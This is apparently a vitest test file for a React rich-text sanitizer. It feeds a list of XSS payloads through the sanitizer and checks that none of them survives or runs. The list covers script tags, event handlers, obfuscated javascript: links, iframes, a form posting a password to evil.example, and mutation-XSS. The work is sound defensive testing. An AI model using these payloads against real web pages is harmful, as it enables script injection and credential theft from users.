import { render } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { RichText, sanitize } from './RichText.js';

// The security suite's rich-text checks: whatever HTML an article, product or theme carries, what
// reaches the page can run nothing, even if the API's own sanitising (apps/api services/html.ts)
// let it through. The e2e security spec opens every seeded article in Chromium, n-2010 with a
// pasted script among them, and checks that no script runs.

const HOSTILE: ReadonlyArray<[string, string]> = [
  ['a script tag', '<p>hi</p><script>window.__pwned = 1</script>'],
  ['a script tag in odd case with a source', '<ScRiPt src="https://evil.example/x.js"></sCrIpT>'],
  ['an onerror handler', '<img src="x" onerror="window.__pwned = 1">'],
  ['an onload handler on svg', '<svg onload="window.__pwned = 1"><circle r="1"/></svg>'],
  ['handlers on ordinary tags', '<p onclick="window.__pwned = 1" onmouseover="window.__pwned = 1">x</p><body onload="window.__pwned = 1">'],
  ['a javascript: link', '<a href="javascript:window.__pwned = 1">x</a>'],
  ['an obfuscated javascript: link', '<a href=" jav&#x09;ascript:window.__pwned = 1">x</a><a href="JaVaScRiPt:alert(1)">y</a>'],
  ['a data: html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['an iframe', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  [
    'a form posting elsewhere',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  ],
  ['a style tag', '<style>body { display: none }</style><p>x</p>'],
  ['a meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'],
  [
    'svg with a script and a javascript: link',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  ['math with a javascript: link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['a mutation-XSS attempt', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a template', '<template><script>alert(1)</script></template>'],
];

/** What may not appear in clean HTML: script and plug-in elements, handler attributes, script and data: HTML URLs. */
function expectInert(html: string): void {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  expect(holder.querySelectorAll('script, iframe, object, embed, form, input, style, meta, base, link, template, noscript')).toHaveLength(
    0,
  );
  for (const element of holder.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(attribute.name, `${element.tagName} ${attribute.name}`).not.toMatch(/^on|formaction|srcdoc/i);
      // Browsers ignore whitespace and control characters inside a URL's scheme.
      const value = [...attribute.value].filter((character) => character.charCodeAt(0) > 0x20).join('');
      expect(value, `${element.tagName} ${attribute.name}`).not.toMatch(/^(javascript|vbscript|data:text\/html)/i);
    }
  }
}

afterEach(() => {
  delete (window as { __pwned?: number }).__pwned;
});

describe('sanitize', () => {
  it.each(HOSTILE)('leaves nothing that runs of %s', (_, html) => {
    expectInert(sanitize(html));
  });

  it('keeps the content of ordinary rich text: headings, lists, pictures, links', () => {
    const clean = sanitize(
      '<h2>Key points</h2><ul><li>One</li></ul><p><img src="/v1/images/articles/n-1-2.png" alt="x"><a href="/news-list">news</a></p>',
    );
    expect(clean).toContain('<h2>Key points</h2>');
    expect(clean).toContain('<li>One</li>');
    expect(clean).toContain('<a href="/news-list">news</a>');
    expect(clean).toMatch(/<img src="\/v1\/images\/articles\/n-1-2\.webp" alt="x" loading="lazy">/);
  });

  it('opens links to other sites in a new tab without a handle on this page', () => {
    expect(sanitize('<a href="https://elsewhere.example/">x</a>')).toBe(
      '<a href="https://elsewhere.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});

describe('RichText', () => {
  it('renders every hostile sample without running anything', async () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => {});
    const { container } = render(<RichText html={HOSTILE.map(([, html]) => html).join('')} />);
    // Handlers would fire on load or error of the pictures jsdom does not fetch; give them a turn anyway.
    for (const element of container.querySelectorAll('img, svg, body, p')) element.dispatchEvent(new Event('load'));
    for (const element of container.querySelectorAll('img')) element.dispatchEvent(new Event('error'));
    // Clicks reach any onclick left, but navigate nowhere (jsdom cannot).
    container.addEventListener('click', (event) => event.preventDefault());
    for (const link of container.querySelectorAll('a')) link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    await new Promise((resolve) => setTimeout(resolve, 0));
    expectInert(container.innerHTML);
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    expect(alert).not.toHaveBeenCalled();
  });
});
